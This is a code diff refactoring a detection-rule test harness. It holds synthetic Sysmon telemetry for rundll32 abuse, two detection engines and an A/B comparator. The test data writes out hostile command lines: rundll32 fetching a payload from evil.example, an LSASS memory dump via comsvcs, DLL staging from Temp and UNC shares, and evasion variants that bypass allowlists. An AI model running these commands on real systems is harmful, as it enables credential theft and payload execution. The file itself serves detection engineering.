-{failures_html or '<p style="color:#10b981">✓ Zero failures.</p>'}
+    @staticmethod
+    def _write_evasion(fh: TextIO, evasion: list[TestResult]) -> None:
+        """Write a caught/missed line per evasion result."""
+        if not evasion:
+            fh.write("<p>No evasion events in this run.</p>")
+            return
+        for r in evasion:
+            cls, icon = _EV_MARKS[r.passed]
+            fh.write(
+                f'<div class="{cls}">'
+                f'<span class="ev-icon">{icon}</span>'
+                f' <strong>{_html.escape(r.event.description)}</strong>'
+                f' <span class="ev-tags">{_html.escape(", ".join(r.event.tags or ()))}</span>'
+                f'{"<br><em>" + _html.escape(r.event.notes) + "</em>" if r.event.notes else ""}'
+                f'</div>\n'
+            )
 
-</body></html>"""
+    @staticmethod
+    def _write_cats(fh: TextIO, breakdown: dict[str, dict]) -> None:
+        """Write a pass-rate bar per category in the metrics breakdown."""
+        if not breakdown:
+            fh.write("<p>No category data.</p>")
+            return
+        for cat_name, cat_data in breakdown.items():
+            clr  = _CAT_COLORS.get(cat_name, "#94a3b8")
+            pct  = int(cat_data["pass_rate"] * 100)
+            fh.write(
+                f'<div class="cat-row">'
+                f'<span class="cat-name" style="color:{clr}">'
+                f'{cat_name.replace("_", " ")}</span>'
+                f'<div class="cat-bar-wrap">'
+                f'<div class="cat-bar" style="width:{pct}%;background:{clr}"></div></div>'
+                f'<span class="cat-rate">{cat_data["passed"]}/{cat_data["total"]} '
+                f'({cat_data["pass_rate"]:.0%})</span>'
+                f'</div>\n'
+            )
 
-        with open(path, "w", encoding="utf-8") as fh:
-            fh.write(html)
+    @staticmethod
+    def _write_recs(fh: TextIO, recs: list[dict]) -> None:
+        """Write a recommendation card per rec, or the no-issues note."""
+        if not recs:
+            fh.write('<p style="color:#10b981">✓ No issues found.</p>')
+            return
+        for rec in recs:
+            c = _PRI_COLORS.get(rec.get("priority", "info"), "#94a3b8")
+            fh.write(
+                f'<div class="rec-card" style="border-left-color:{c}">'
+                f'<div class="rec-header">'
+                f'<span class="rec-badge" style="background:{c}22;color:{c};border:1px solid {c}44">'
+                f'{_html.escape(rec.get("priority","info").upper())}</span> '
+                f'<strong>{_html.escape(rec.get("title",""))}</strong></div>'
+                f'<p class="rec-body">{_html.escape(rec.get("body",""))}</p>'
+                f'<div class="rec-fix"><span style="color:{c}">FIX →</span> {_html.escape(rec.get("fix",""))}</div>'
+                f'</div>\n'
+            )
 
 
 # ═══════════════════════════════════════════════════════════════════════════════
 # RULE COMPARATOR  (A/B testing)
 # ═══════════════════════════════════════════════════════════════════════════════
 
+# Metrics compared (and printed) side by side, in report order
+_METRIC_KEYS = ("accuracy", "precision", "recall",
+                "f1_score", "evasion_resistance", "composite_score")
+
+
 class RuleComparator:
     """
     Compare two detection engine versions against the same test dataset.
@@ -1828,29 +2517,18 @@ class RuleComparator:
         if self._report is not None:
             return self._report
 
-        self.runner_a.run()
-        self.runner_b.run()
+        self._run_fused()
 
         m_a = self.runner_a.get_metrics()
         m_b = self.runner_b.get_metrics()
 
-        diffs = []
-        for ra, rb in zip(self.runner_a.results, self.runner_b.results):
-            if ra.outcome != rb.outcome:
-                diffs.append({
-                    "event_id":            ra.event.event_id,
-                    "description":         ra.event.description,
-                    "category":            ra.event.category.value,
-                    "engine_a_outcome":    ra.outcome,
-                    "engine_b_outcome":    rb.outcome,
-                    "engine_a_matched":    ra.detection.matched,
-                    "engine_b_matched":    rb.detection.matched,
-                    "engine_a_conditions": ra.detection.matched_conditions,
-                    "engine_b_conditions": rb.detection.matched_conditions,
-                })
-
-        _METRIC_KEYS = ["accuracy", "precision", "recall",
-                         "f1_score", "evasion_resistance", "composite_score"]
+        # Compare the int outcome index; diff dicts are only built for mismatches
+        diffs = [
+            self._diff_dict(ra, rb)
+            for ra, rb in zip(self.runner_a.results, self.runner_b.results)
+            if ra._outcome_idx != rb._outcome_idx
+        ]
+
         deltas = {
             k: round(
                 (m_b[k] or 0) - (m_a[k] or 0),   # guard None evasion_resistance
@@ -1869,6 +2547,38 @@ class RuleComparator:
         }
         return self._report
 
+    def _run_fused(self) -> None:
+        """
+        Sequential compare in one traversal: each batch of events is fed to
+        both engines back to back while it is still hot, instead of two full
+        run() passes over the event list.  Each engine's batch is timed on its
+        own, as in run().
+        """
+        runners = (self.runner_a, self.runner_b)
+        for runner in runners:
+            runner._reset()
+        events = self.runner_a.events
+        for lo in range(0, len(events), _TIMING_BATCH):
+            batch = events[lo:lo + _TIMING_BATCH]
+            log_datas = [e.log_data for e in batch]
+            for runner in runners:
+                runner._run_batch(batch, log_datas)
+
+    @staticmethod
+    def _diff_dict(ra: TestResult, rb: TestResult) -> dict:
+        """outcome_diffs entry for one event the two engines disagree on."""
+        return {
+            "event_id":            ra.event.event_id,
+            "description":         ra.event.description,
+            "category":            ra.event._category_str,
+            "engine_a_outcome":    ra.outcome,
+            "engine_b_outcome":    rb.outcome,
+            "engine_a_matched":    ra.detection.matched,
+            "engine_b_matched":    rb.detection.matched,
+            "engine_a_conditions": ra.detection.matched_conditions,
+            "engine_b_conditions": rb.detection.matched_conditions,
+        }
+
     @staticmethod
     def _verdict(deltas: dict) -> str:
         d = deltas.get("composite_score", 0)
@@ -1893,8 +2603,7 @@ class RuleComparator:
         print(f"\n  {'Metric':<26} {'Engine A':>12} {'Engine B':>12} {'Delta':>10}")
         print(f"  {'─' * 62}")
 
-        for key in ["accuracy", "precision", "recall", "f1_score",
-                    "evasion_resistance", "composite_score"]:
+        for key in _METRIC_KEYS:
             va    = a["metrics"][key] or 0
             vb    = b["metrics"][key] or 0
             delta = report["deltas"][key]
@@ -1917,6 +2626,153 @@ class RuleComparator:
 # EXAMPLE — Rundll32 Detection  (Sigma-style, Sysmon EventID 1)
 # ═══════════════════════════════════════════════════════════════════════════════
 
+# (CommandLine, description) for generate_true_positives()
+_MALICIOUS_RUNDLL32 = (
+    (r'C:\Windows\System32\rundll32.exe javascript:\"\..\mshtml,RunHTMLApplication\";',
+     "rundll32 javascript: protocol abuse"),
+    (r"rundll32.exe C:\Users\Public\payload.dll,DllMain",
+     "rundll32 loading DLL from Public"),
+    (r"C:\Windows\System32\rundll32.exe C:\Temp\beacon.dll,Start",
+     "rundll32 C:\\Temp DLL staging"),
+    (r"rundll32.exe \\10.0.0.5\share\malware.dll,Entry",
+     "rundll32 UNC share DLL load"),
+    (r'C:\WINDOWS\system32\rundll32.exe vbscript:\"\..\mshtml,RunHTMLApplication\"',
+     "rundll32 vbscript: protocol abuse"),
+    (r"rundll32 C:\ProgramData\update.dll,#1",
+     "rundll32 ProgramData ordinal export"),
+    (r"C:\Windows\System32\rundll32.exe advpack.dll,LaunchINFSection",
+     "rundll32 advpack INF abuse (T1218.011)"),
+    (r"rundll32.exe url.dll,FileProtocolHandler http://evil.example/payload",
+     "rundll32 url.dll HTTP handler"),
+    (r"rundll32.exe zipfldr.dll,RouteTheCall C:\Temp\evil.exe",
+     "rundll32 zipfldr route-call"),
+    (r"C:\Windows\System32\rundll32.exe comsvcs.dll MiniDump 624 C:\temp\lsass.dmp full",
+     "rundll32 comsvcs LSASS dump (T1003.001)"),
+    (r"rundll32.exe pcwutl.dll,LaunchApplication calc.exe",
+     "rundll32 pcwutl LOLBin"),
+    (r"C:\Windows\System32\rundll32.exe shdocvw.dll,OpenURL http://evil.example",
+     "rundll32 shdocvw OpenURL"),
+)
+
+# Parent images drawn for true-positive rundll32 launches
+_RUNDLL32_PARENTS = (
+    r"C:\Windows\System32\cmd.exe",
+    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
+    r"C:\Windows\explorer.exe",
+    r"C:\Windows\System32\wscript.exe",
+    r"C:\Windows\System32\mshta.exe",
+)
+
+# (Image, CommandLine) for generate_true_negatives()
+_BENIGN_PROCS = (
+    (r"C:\Windows\System32\svchost.exe",          "svchost.exe -k netsvcs -p"),
+    (r"C:\Windows\explorer.exe",                  "C:\\Windows\\explorer.exe"),
+    (r"C:\Windows\System32\notepad.exe",          "notepad.exe C:\\Users\\admin\\notes.txt"),
+    (r"C:\Windows\System32\cmd.exe",              "cmd.exe /c dir C:\\Users"),
+    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", "chrome.exe --type=renderer"),
+    (r"C:\Windows\System32\taskmgr.exe",          "taskmgr.exe"),
+    (r"C:\Windows\System32\mmc.exe",              "mmc.exe eventvwr.msc"),
+    (r"C:\Windows\System32\wbem\wmiprvse.exe",    "wmiprvse.exe"),
+    (r"C:\Windows\System32\dllhost.exe",
+     r"dllhost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}"),
+    (r"C:\Windows\System32\conhost.exe",          "conhost.exe 0x4"),
+    (r"C:\Program Files\7-Zip\7z.exe",            "7z.exe a archive.zip files"),
+    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
+     "powershell.exe -Command Get-Date"),
+    (r"C:\Windows\System32\mstsc.exe",            "mstsc.exe /v:server01"),
+    (r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", "WINWORD.EXE /n"),
+    (r"C:\Windows\System32\dwm.exe",              "dwm.exe"),
+)
+
+# (CommandLine, description) for generate_fp_candidates()
+_FP_LEGIT = (
+    (r"rundll32.exe shell32.dll,Control_RunDLL intl.cpl",
+     "shell32 Control Panel — legit"),
+    (r"rundll32.exe setupapi.dll,InstallHinfSection",
+     "setupapi INF install — legit"),
+    (r"C:\Windows\System32\rundll32.exe shell32.dll,SHCreateLocalServerRunDll",
+     "shell32 COM server — legit"),
+    (r"rundll32.exe shell32.dll,Options_RunDLL 0",
+     "shell32 folder options — legit"),
+    (r"rundll32.exe printui.dll,PrintUIEntry /il",
+     "printui printer installer — legit"),
+    (r"rundll32.exe user32.dll,LockWorkStation",
+     "user32 lock workstation — legit"),
+    (r"C:\Windows\System32\rundll32.exe setupapi.dll,SetupChangeFontSize",
+     "setupapi font size — legit"),
+)
+
+
+class _EvasionVariant(NamedTuple):
+    """One generate_evasion_samples() template."""
+    image:   str
+    cmdline: str
+    ofn:     str   # OriginalFileName
+    desc:    str
+    tags:    tuple
+    note:    str
+
+
+_EVASION_VARIANTS = (
+    _EvasionVariant(
+        image   = r"C:\Temp\notmalware.exe",
+        cmdline = r"notmalware.exe C:\Temp\beacon.dll,Start",
+        ofn     = "RUNDLL32.EXE",
+        desc    = "Renamed binary — OriginalFileName still RUNDLL32.EXE",
+        tags    = ("renamed_binary", "pe_metadata"),
+        note    = "Relies on OriginalFileName check; Image-only rules miss this.",
+    ),
+    _EvasionVariant(
+        image   = r"C:\Windows\SysWOW64\rundll32.exe",
+        cmdline = r"C:\Windows\SysWOW64\rundll32.exe C:\Temp\payload32.dll,Run",
+        ofn     = "RUNDLL32.EXE",
+        desc    = "SysWOW64 path — 32-bit variant on 64-bit host",
+        tags    = ("syswow64", "path_evasion"),
+        note    = "Rule must match both System32 and SysWOW64 paths.",
+    ),
+    _EvasionVariant(
+        image   = r"C:\Windows\System32\rundll32.exe",
+        cmdline = r'rundll32.exe "\\fileserver\share\pay load.dll",Entry',
+        ofn     = "RUNDLL32.EXE",
+        desc    = "UNC path with space in filename",
+        tags    = ("unc_path", "spaces"),
+        note    = "Spaces in DLL path can confuse simple string matchers.",
+    ),
+    _EvasionVariant(
+        image   = r"C:\Windows\System32\rundll32.exe",
+        cmdline = r"rundll32.exe %TEMP%\update.dll,DllRegisterServer",
+        ofn     = "RUNDLL32.EXE",
+        desc    = "Environment-variable path substitution",
+        tags    = ("env_variable",),
+        note    = "Rules matching literal paths miss %-expanded paths.",
+    ),
+    _EvasionVariant(
+        image   = r"C:\Windows\System32\rundll32.exe",
+        cmdline = r"rundll32 shell32.dll\,Control_RunDLL ..\..\Temp\evil.cpl",
+        ofn     = "RUNDLL32.EXE",
+        desc    = "Escaped comma + path traversal in shell32 allowlist bypass",
+        tags    = ("filter_bypass", "path_traversal"),
+        note    = "shell32.dll is in the allowlist but the traversal is malicious.",
+    ),
+    _EvasionVariant(
+        image   = r"C:\Users\Public\svchost.exe",
+        cmdline = r"svchost.exe C:\Users\Public\implant.dll,Run",
+        ofn     = "RUNDLL32.EXE",
+        desc    = "Masquerading as svchost.exe (OriginalFileName = RUNDLL32.EXE)",
+        tags    = ("renamed_binary", "masquerade"),
+        note    = "Doubly evasive — wrong image name AND suspicious path.",
+    ),
+    _EvasionVariant(
+        image   = r"C:\Windows\System32\rundll32.exe",
+        cmdline = r"C:\Windows\System32\rundll32.exe C:\TEMP\BEACON.DLL,START",
+        ofn     = "RUNDLL32.EXE",
+        desc    = "All-caps DLL path — case manipulation",
+        tags    = ("case_manipulation",),
+        note    = "Case-sensitive rules miss this variant.",
+    ),
+)
+
+
 class ExampleRundll32Generator(TelemetryGenerator):
     """
     Generates realistic Sysmon EventID 1 telemetry for a Rundll32 proxy-execution
@@ -1924,48 +2780,15 @@ class ExampleRundll32Generator(TelemetryGenerator):
     """
 
     def generate_true_positives(self, count: int = 10) -> list[SyntheticEvent]:
-        malicious = [
-            (r'C:\Windows\System32\rundll32.exe javascript:\"\..\mshtml,RunHTMLApplication\";',
-             "rundll32 javascript: protocol abuse"),
-            (r"rundll32.exe C:\Users\Public\payload.dll,DllMain",
-             "rundll32 loading DLL from Public"),
-            (r"C:\Windows\System32\rundll32.exe C:\Temp\beacon.dll,Start",
-             "rundll32 C:\\Temp DLL staging"),
-            (r"rundll32.exe \\10.0.0.5\share\malware.dll,Entry",
-             "rundll32 UNC share DLL load"),
-            (r'C:\WINDOWS\system32\rundll32.exe vbscript:\"\..\mshtml,RunHTMLApplication\"',
-             "rundll32 vbscript: protocol abuse"),
-            (r"rundll32 C:\ProgramData\update.dll,#1",
-             "rundll32 ProgramData ordinal export"),
-            (r"C:\Windows\System32\rundll32.exe advpack.dll,LaunchINFSection",
-             "rundll32 advpack INF abuse (T1218.011)"),
-            (r"rundll32.exe url.dll,FileProtocolHandler http://evil.example/payload",
-             "rundll32 url.dll HTTP handler"),
-            (r"rundll32.exe zipfldr.dll,RouteTheCall C:\Temp\evil.exe",
-             "rundll32 zipfldr route-call"),
-            (r"C:\Windows\System32\rundll32.exe comsvcs.dll MiniDump 624 C:\temp\lsass.dmp full",
-             "rundll32 comsvcs LSASS dump (T1003.001)"),
-            (r"rundll32.exe pcwutl.dll,LaunchApplication calc.exe",
-             "rundll32 pcwutl LOLBin"),
-            (r"C:\Windows\System32\rundll32.exe shdocvw.dll,OpenURL http://evil.example",
-             "rundll32 shdocvw OpenURL"),
-        ]
-        parents = [
-            r"C:\Windows\System32\cmd.exe",
-            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
-            r"C:\Windows\explorer.exe",
-            r"C:\Windows\System32\wscript.exe",
-            r"C:\Windows\System32\mshta.exe",
-        ]
         events = []
-        for i in range(min(count, len(malicious))):
-            cmdline, desc = malicious[i]
+        for i in range(min(count, len(_MALICIOUS_RUNDLL32))):
+            cmdline, desc = _MALICIOUS_RUNDLL32[i]
             base = self._base_sysmon_event(1)
             base["Image"]            = r"C:\Windows\System32\rundll32.exe"
             base["OriginalFileName"] = "RUNDLL32.EXE"
             base["CommandLine"]      = cmdline
-            base["ParentImage"]      = self.rng.choice(parents)
-            base["ParentCommandLine"] = base["ParentImage"].split("\\")[-1]
+            base["ParentImage"]      = self.rng.choice(_RUNDLL32_PARENTS)
+            base["ParentCommandLine"] = base["ParentImage"].rpartition(_BS)[2]
             events.append(SyntheticEvent(
                 event_id          = self._next_id(),
                 category          = EventCategory.TRUE_POSITIVE,
@@ -1979,28 +2802,9 @@ class ExampleRundll32Generator(TelemetryGenerator):
         return events
 
     def generate_true_negatives(self, count: int = 15) -> list[SyntheticEvent]:
-        benign = [
-            (r"C:\Windows\System32\svchost.exe",          "svchost.exe -k netsvcs -p"),
-            (r"C:\Windows\explorer.exe",                  "C:\\Windows\\explorer.exe"),
-            (r"C:\Windows\System32\notepad.exe",          "notepad.exe C:\\Users\\admin\\notes.txt"),
-            (r"C:\Windows\System32\cmd.exe",              "cmd.exe /c dir C:\\Users"),
-            (r"C:\Program Files\Google\Chrome\Application\chrome.exe", "chrome.exe --type=renderer"),
-            (r"C:\Windows\System32\taskmgr.exe",          "taskmgr.exe"),
-            (r"C:\Windows\System32\mmc.exe",              "mmc.exe eventvwr.msc"),
-            (r"C:\Windows\System32\wbem\wmiprvse.exe",    "wmiprvse.exe"),
-            (r"C:\Windows\System32\dllhost.exe",
-             r"dllhost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}"),
-            (r"C:\Windows\System32\conhost.exe",          "conhost.exe 0x4"),
-            (r"C:\Program Files\7-Zip\7z.exe",            "7z.exe a archive.zip files"),
-            (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
-             "powershell.exe -Command Get-Date"),
-            (r"C:\Windows\System32\mstsc.exe",            "mstsc.exe /v:server01"),
-            (r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", "WINWORD.EXE /n"),
-            (r"C:\Windows\System32\dwm.exe",              "dwm.exe"),
-        ]
         events = []
-        for i in range(min(count, len(benign))):
-            image, cmdline = benign[i]
+        for i in range(min(count, len(_BENIGN_PROCS))):
+            image, cmdline = _BENIGN_PROCS[i]
             base = self._base_sysmon_event(1)
             base["Image"]       = image
             base["CommandLine"] = cmdline
@@ -2008,7 +2812,7 @@ class ExampleRundll32Generator(TelemetryGenerator):
             events.append(SyntheticEvent(
                 event_id          = self._next_id(),
                 category          = EventCategory.TRUE_NEGATIVE,
-                description       = f"Benign: {image.split(chr(92))[-1]}",
+                description       = f"Benign: {image.rpartition(_BS)[2]}",
                 log_data          = base,
                 expected_detection= False,
                 tags              = ["benign"],
@@ -2016,25 +2820,9 @@ class ExampleRundll32Generator(TelemetryGenerator):
         return events
 
     def generate_fp_candidates(self, count: int = 5) -> list[SyntheticEvent]:
-        legit = [
-            (r"rundll32.exe shell32.dll,Control_RunDLL intl.cpl",
-             "shell32 Control Panel — legit"),
-            (r"rundll32.exe setupapi.dll,InstallHinfSection",
-             "setupapi INF install — legit"),
-            (r"C:\Windows\System32\rundll32.exe shell32.dll,SHCreateLocalServerRunDll",
-             "shell32 COM server — legit"),
-            (r"rundll32.exe shell32.dll,Options_RunDLL 0",
-             "shell32 folder options — legit"),
-            (r"rundll32.exe printui.dll,PrintUIEntry /il",
-             "printui printer installer — legit"),
-            (r"rundll32.exe user32.dll,LockWorkStation",
-             "user32 lock workstation — legit"),
-            (r"C:\Windows\System32\rundll32.exe setupapi.dll,SetupChangeFontSize",
-             "setupapi font size — legit"),
-        ]
         events = []
-        for i in range(min(count, len(legit))):
-            cmdline, desc = legit[i]
+        for i in range(min(count, len(_FP_LEGIT))):
+            cmdline, desc = _FP_LEGIT[i]
             base = self._base_sysmon_event(1)
             base["Image"]            = r"C:\Windows\System32\rundll32.exe"
             base["OriginalFileName"] = "RUNDLL32.EXE"
@@ -2052,81 +2840,23 @@ class ExampleRundll32Generator(TelemetryGenerator):
         return events
 
     def generate_evasion_samples(self, count: int = 5) -> list[SyntheticEvent]:
-        evasion_variants = [
-            {
-                "image":    r"C:\Temp\notmalware.exe",
-                "cmdline":  r"notmalware.exe C:\Temp\beacon.dll,Start",
-                "ofn":      "RUNDLL32.EXE",
-                "desc":     "Renamed binary — OriginalFileName still RUNDLL32.EXE",
-                "tags":     ["renamed_binary", "pe_metadata"],
-                "note":     "Relies on OriginalFileName check; Image-only rules miss this.",
-            },
-            {
-                "image":    r"C:\Windows\SysWOW64\rundll32.exe",
-                "cmdline":  r"C:\Windows\SysWOW64\rundll32.exe C:\Temp\payload32.dll,Run",
-                "ofn":      "RUNDLL32.EXE",
-                "desc":     "SysWOW64 path — 32-bit variant on 64-bit host",
-                "tags":     ["syswow64", "path_evasion"],
-                "note":     "Rule must match both System32 and SysWOW64 paths.",
-            },
-            {
-                "image":    r"C:\Windows\System32\rundll32.exe",
-                "cmdline":  r'rundll32.exe "\\fileserver\share\pay load.dll",Entry',
-                "ofn":      "RUNDLL32.EXE",
-                "desc":     "UNC path with space in filename",
-                "tags":     ["unc_path", "spaces"],
-                "note":     "Spaces in DLL path can confuse simple string matchers.",
-            },
-            {
-                "image":    r"C:\Windows\System32\rundll32.exe",
-                "cmdline":  r"rundll32.exe %TEMP%\update.dll,DllRegisterServer",
-                "ofn":      "RUNDLL32.EXE",
-                "desc":     "Environment-variable path substitution",
-                "tags":     ["env_variable"],
-                "note":     "Rules matching literal paths miss %-expanded paths.",
-            },
-            {
-                "image":    r"C:\Windows\System32\rundll32.exe",
-                "cmdline":  r"rundll32 shell32.dll\,Control_RunDLL ..\..\Temp\evil.cpl",
-                "ofn":      "RUNDLL32.EXE",
-                "desc":     "Escaped comma + path traversal in shell32 allowlist bypass",
-                "tags":     ["filter_bypass", "path_traversal"],
-                "note":     "shell32.dll is in the allowlist but the traversal is malicious.",
-            },
-            {
-                "image":    r"C:\Users\Public\svchost.exe",
-                "cmdline":  r"svchost.exe C:\Users\Public\implant.dll,Run",
-                "ofn":      "RUNDLL32.EXE",
-                "desc":     "Masquerading as svchost.exe (OriginalFileName = RUNDLL32.EXE)",
-                "tags":     ["renamed_binary", "masquerade"],
-                "note":     "Doubly evasive — wrong image name AND suspicious path.",
-            },
-            {
-                "image":    r"C:\Windows\System32\rundll32.exe",
-                "cmdline":  r"C:\Windows\System32\rundll32.exe C:\TEMP\BEACON.DLL,START",
-                "ofn":      "RUNDLL32.EXE",
-                "desc":     "All-caps DLL path — case manipulation",
-                "tags":     ["case_manipulation"],
-                "note":     "Case-sensitive rules miss this variant.",
-            },
-        ]
         events = []
-        for i in range(min(count, len(evasion_variants))):
-            v    = evasion_variants[i]
+        for i in range(min(count, len(_EVASION_VARIANTS))):
+            v    = _EVASION_VARIANTS[i]
             base = self._base_sysmon_event(1)
-            base["Image"]            = v["image"]
-            base["CommandLine"]      = v["cmdline"]
-            base["OriginalFileName"] = v["ofn"]
+            base["Image"]            = v.image
+            base["CommandLine"]      = v.cmdline
+            base["OriginalFileName"] = v.ofn
             base["ParentImage"]      = r"C:\Windows\System32\cmd.exe"
             events.append(SyntheticEvent(
                 event_id          = self._next_id(),
                 category          = EventCategory.EVASION,
-                description       = v["desc"],
+                description       = v.desc,
                 log_data          = base,
                 attack_technique  = "T1218.011",
                 expected_detection= True,
-                notes             = v["note"],
-                tags              = v.get("tags", []),
+                notes             = v.note,
+                tags              = list(v.tags),
             ))
         return events
 
@@ -2150,6 +2880,11 @@ class ExampleRundll32Engine(DetectionEngine):
       - Misses SysWOW64 path variant.
     """
 
+    _LC_SHELL32  = DetectionEngine.compile_literal("shell32.dll")
+    _LC_SETUPAPI = DetectionEngine.compile_literal("setupapi.dll")
+    _HIGH_CONFIDENCE   = ["javascript:", "vbscript:", "comsvcs", "minidump"]
+    _MEDIUM_CONFIDENCE = [".dll,", "\\temp\\", "\\public\\", "\\programdata\\"]
+
     def __init__(self):
         super().__init__(
             rule_name="Suspicious Rundll32 (v1 — Original)",
@@ -2161,37 +2896,58 @@ class ExampleRundll32Engine(DetectionEngine):
                 "version":      "1.0",
             },
         )
+        self._rule = self._compile_rule()
+
+    def _compile_rule(self) -> Callable[[dict], DetectionResult]:
+        """
+        Specialise the rule into one closure: needles, predicates and helpers
+        are bound as closure cells once, so evaluate() runs straight-line code
+        with no per-event method lookups or matcher dispatch.
+        """
+        get        = self.nested_get
+        sel_image  = self.compile_condition("endswith", "Image", "\\rundll32.exe")
+        lc_shell   = self._LC_SHELL32
+        lc_setup   = self._LC_SETUPAPI
+        high       = tuple(self._HIGH_CONFIDENCE)
+        medium     = tuple(self._MEDIUM_CONFIDENCE)
+
+        def rule(event: dict) -> DetectionResult:
+            matched = []
+
+            # Selection
+            sel = sel_image(event)
+            if sel:
+                matched.append("Image|endswith:'\\\\rundll32.exe'")
+
+            # Filter
+            cmdline = get(event, "CommandLine").lower()
+            f_shell = lc_shell in cmdline
+            f_setup = lc_setup in cmdline
+            if f_shell:  matched.append("filter:CommandLine|contains:'shell32.dll'")
+            if f_setup:  matched.append("filter:CommandLine|contains:'setupapi.dll'")
+
+            final = sel and not (f_shell or f_setup)
+
+            confidence = 0   # integer percent, divided once on return
+            if final:
+                confidence = 70
+                if any(s in cmdline for s in high):
+                    confidence = 95
+                elif any(s in cmdline for s in medium):
+                    confidence = 85
+
+            return DetectionResult(
+                event_id="", matched=final,
+                matched_conditions=matched, confidence_score=confidence / 100,
+            )
+
+        return rule
 
     def evaluate(self, event: dict) -> DetectionResult:
-        matched = []
-
-        # Selection
-        sel = self.field_endswith(event, "Image", "\\rundll32.exe")
-        if sel:
-            matched.append("Image|endswith:'\\\\rundll32.exe'")
-
-        # Filter
-        f_shell   = self.field_contains(event, "CommandLine", "shell32.dll")
-        f_setup   = self.field_contains(event, "CommandLine", "setupapi.dll")
-        filtered  = f_shell or f_setup
-        if f_shell:  matched.append("filter:CommandLine|contains:'shell32.dll'")
-        if f_setup:  matched.append("filter:CommandLine|contains:'setupapi.dll'")
-
-        final = sel and not filtered
-
-        confidence = 0.0
-        if final:
-            confidence = 0.70
-            cmdline = self.nested_get(event, "CommandLine").lower()
-            if any(s in cmdline for s in ["javascript:", "vbscript:", "comsvcs", "minidump"]):
-                confidence = 0.95
-            elif any(s in cmdline for s in [".dll,", "\\temp\\", "\\public\\", "\\programdata\\"]):
-                confidence = 0.85
-
-        return DetectionResult(
-            event_id="", matched=final,
-            matched_conditions=matched, confidence_score=round(confidence, 2),
-        )
+        return self._rule(event)
+
+    def batch_evaluate(self, events: list[dict]) -> list[DetectionResult]:
+        return list(map(self._rule, events))
 
 
 class ImprovedRundll32Engine(DetectionEngine):
@@ -2236,6 +2992,14 @@ class ImprovedRundll32Engine(DetectionEngine):
         "\\winword.exe", "\\excel.exe", "\\powershell.exe",
         "\\python.exe", "\\pythonw.exe",
     ]
+    # CommandLine tokens (lowercase) that raise confidence of a match
+    _HIGH_CONFIDENCE = [
+        "javascript:", "vbscript:", "http://", "https://",
+        "comsvcs", "minidump", "runhtmlapplication",
+    ]
+    _MEDIUM_CONFIDENCE = [
+        ".dll,", "\\temp\\", "\\public\\", "\\programdata\\", "\\users\\",
+    ]
 
     def __init__(self):
         super().__init__(
@@ -2248,72 +3012,96 @@ class ImprovedRundll32Engine(DetectionEngine):
                 "version":      "2.0",
             },
         )
+        self._rule = self._compile_rule()
+
+    def _compile_rule(self) -> Callable[[dict], DetectionResult]:
+        """
+        Specialise the rule into one closure: needle tuples, compiled
+        predicates and helpers are bound as closure cells once, so evaluate()
+        runs straight-line code with no per-event method lookups.
+        """
+        get       = self.nested_get
+        image_p   = self.compile_condition("endswith", "Image", "\\rundll32.exe")
+        ofn_p     = self.compile_condition("equals", "OriginalFileName", "RUNDLL32.EXE")
+        benign    = tuple(self._BENIGN_DLLS)
+        abuse     = tuple(self._ABUSE_INDICATORS)
+        high      = _needle_scanner(tuple(self._HIGH_CONFIDENCE))
+        medium    = _needle_scanner(tuple(self._MEDIUM_CONFIDENCE))
+        parents   = _parent_matcher(tuple(self._SUSPICIOUS_PARENTS))
+
+        def rule(event: dict) -> DetectionResult:
+            matched = []
+
+            # Selection: Image path OR OriginalFileName.  OFN only matters for
+            # renamed binaries, so it is not evaluated when Image already hit.
+            if image_p(event):
+                renamed = False
+                matched.append("Image|endswith:'\\\\rundll32.exe'")
+            elif ofn_p(event):
+                renamed = True
+                matched.append("OriginalFileName=='RUNDLL32.EXE' (renamed binary!)")
+            else:
+                return DetectionResult(event_id="", matched=False, matched_conditions=matched)
+
+            # Lowered once here and shared by every check below.  Not memoised
+            # across engines: log_data is exported as-is, so it cannot carry
+            # cache keys, and a value-keyed LRU is fully evicted between the
+            # two --compare runs once a batch outgrows it.
+            cmdline_lower = get(event, "CommandLine").lower()
+
+            # Filter: benign DLL usage
+            benign_match = any(dll in cmdline_lower for dll in benign)
+            if benign_match:
+                matched.append("filter:CommandLine contains benign DLL pattern")
+
+            # Anti-abuse override: traversal / escaped-comma within benign DLL call
+            abuse_match = any(ind in cmdline_lower for ind in abuse)
+            if abuse_match:
+                matched.append("anti_abuse:traversal/escape indicator in CommandLine")
+
+            # Logic: suppress only when benign WITHOUT abuse
+            final = not (benign_match and not abuse_match)
+
+            # Confidence scoring (integer percent, divided once on return)
+            confidence = 0
+            if final:
+                confidence = 70
+                if high(cmdline_lower):
+                    confidence = 95
+                elif medium(cmdline_lower):
+                    confidence = 85
+
+                # Boosts
+                if renamed:
+                    confidence = min(confidence + 10, 100)
+                    matched.append("boost:renamed_binary")
+
+                parent = get(event, "ParentImage").lower()
+                if parents(parent):
+                    confidence = min(confidence + 5, 100)
+                    matched.append("boost:suspicious_parent")
+
+            return DetectionResult(
+                event_id="", matched=final,
+                matched_conditions=matched, confidence_score=confidence / 100,
+            )
+
+        return rule
 
     def evaluate(self, event: dict) -> DetectionResult:
-        matched = []
-
-        # Selection: Image path OR OriginalFileName
-        sel_image = self.field_endswith(event, "Image", "\\rundll32.exe")
-        sel_ofn   = self.check_original_filename(event, "RUNDLL32.EXE")
-        selection = sel_image or sel_ofn
-
-        if sel_image: matched.append("Image|endswith:'\\\\rundll32.exe'")
-        if sel_ofn and not sel_image:
-            matched.append("OriginalFileName=='RUNDLL32.EXE' (renamed binary!)")
-
-        if not selection:
-            return DetectionResult(event_id="", matched=False, matched_conditions=matched)
-
-        cmdline_lower = self.nested_get(event, "CommandLine").lower()
-
-        # Filter: benign DLL usage
-        benign_match = any(dll in cmdline_lower for dll in self._BENIGN_DLLS)
-        if benign_match:
-            matched.append("filter:CommandLine contains benign DLL pattern")
-
-        # Anti-abuse override: traversal / escaped-comma within benign DLL call
-        abuse_match = any(ind in cmdline_lower for ind in self._ABUSE_INDICATORS)
-        if abuse_match:
